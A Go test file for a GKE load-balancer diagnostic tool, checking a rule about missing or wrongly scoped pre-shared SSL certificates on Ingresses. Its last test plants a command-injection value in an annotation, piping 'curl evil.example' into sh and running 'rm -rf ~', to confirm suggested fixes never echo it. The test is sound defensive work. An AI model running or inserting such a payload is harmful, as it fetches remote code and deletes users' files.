package ingress

import (
	"fmt"
	"strings"
	"testing"

	compute "google.golang.org/api/compute/v1"
	networkingv1 "k8s.io/api/networking/v1"

	"github.com/lbdiag/lbdiag/gke"
	"github.com/lbdiag/lbdiag/inspect/rules/ruletest"
	"github.com/lbdiag/lbdiag/inventory"
)

func TestPreSharedCertMissing(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		class, annotation string
		want              []string
	}{
		{"", "wildcard, legacy", []string{`names SslCertificate "legacy", which project acme-test does not have in scope global (class gce)`}},
		{"", "wildcard", nil},
		{"gce-internal", "wildcard", []string{"a certificate of that name exists in global, the wrong scope for this class"}},
		{"gce-internal", "regional", nil},
	} {
		t.Run(fmt.Sprint(tc.class, tc.annotation), func(t *testing.T) {
			t.Parallel()
			cl := ruletest.ProdCluster()
			ing := ruletest.Ingress("shop", "site", tc.class, "web")
			ing.Annotations[gke.AnnPreSharedCert] = tc.annotation
			cl.Ingresses = []networkingv1.Ingress{ing}
			inv := ruletest.Inventory(cl)
			inv.Compute.SSLCertificates = []*compute.SslCertificate{{Name: "wildcard", SelfLink: ruletest.G("global/sslCertificates/wildcard")},
				{Name: "regional", SelfLink: ruletest.G("regions/europe-west1/sslCertificates/regional"), Region: ruletest.G("regions/europe-west1")}}
			ruletest.Expect(t, ruletest.Run(t, inv, PreSharedCertMissing), tc.want...)
		})
	}
}

func TestPreSharedCertMissingCounts(t *testing.T) {
	t.Parallel()
	ingresses := func() []networkingv1.Ingress {
		with := func(name, class, certs string) networkingv1.Ingress {
			ing := ruletest.Ingress("shop", name, class, "web")
			if certs != "" {
				ing.Annotations[gke.AnnPreSharedCert] = certs
			}
			return ing
		}
		return []networkingv1.Ingress{
			with("a", "", "wildcard"),             // global certificate exists: passes
			with("b", "", "legacy"),               // no such certificate: fails
			with("c", "", ""),                     // names none: not judged
			with("d", "gce-internal", "wildcard"), // global, but internal needs regional: fails
		}
	}
	cl := ruletest.ProdCluster()
	cl.Ingresses = ingresses()
	edge := edgeCluster()
	edge.Ingresses = ingresses()
	inv := ruletest.Inventory(cl, edge)
	inv.Compute.SSLCertificates = []*compute.SslCertificate{{Name: "wildcard", SelfLink: ruletest.G("global/sslCertificates/wildcard")}}
	// Cluster edge's Ingresses could not be read: not judged, one place
	// not checked.
	ruletest.FailSource(inv, inventory.KubeIngresses, edge.Scope())
	c := ruletest.ExpectCounts(t, inv, PreSharedCertMissing, ruletest.Counts{Judged: 3, Passed: 1, Failed: 2, CouldNotCheck: 1})
	expectReason(t, c, inventory.KubeIngresses)

	// The certificates could not be listed: nothing judged.
	ruletest.FailSource(inv, inventory.ComputeSSLCertificates, inventory.ProjectScope(ruletest.Project))
	c = ruletest.ExpectCounts(t, inv, PreSharedCertMissing, ruletest.Counts{CouldNotCheck: 1})
	expectReason(t, c, inventory.ComputeSSLCertificates)
}

// TestCertificateFixesQuoteNoAnnotationText: a certificate name in an
// annotation is anyone's text; the fixes, pasted into a shell, carry it
// only when it could name a certificate, and NAME otherwise.
func TestCertificateFixesQuoteNoAnnotationText(t *testing.T) {
	t.Parallel()
	const evil = "x;curl evil.example|sh\nEOF\nrm -rf ~"
	cl := ruletest.ProdCluster()
	ing := ruletest.Ingress("shop", "site", "", "web")
	ing.Annotations[gke.AnnPreSharedCert] = evil
	ing.Annotations[gke.AnnManagedCerts] = evil
	cl.Ingresses = []networkingv1.Ingress{ing}
	inv := ruletest.Inventory(cl)
	fs := ruletest.Run(t, inv, PreSharedCertMissing)
	fs = append(fs, ruletest.Run(t, inv, ManagedCertificateMissing)...)
	if len(fs) != 2 {
		t.Fatalf("%d findings, want one of each rule", len(fs))
	}
	for _, f := range fs {
		if strings.Contains(f.Remediation, "curl") || strings.Contains(f.Remediation, "rm -rf") || !strings.Contains(f.Remediation, "NAME") {
			t.Errorf("%s: fix %q", f.Rule, f.Remediation)
		}
	}
}
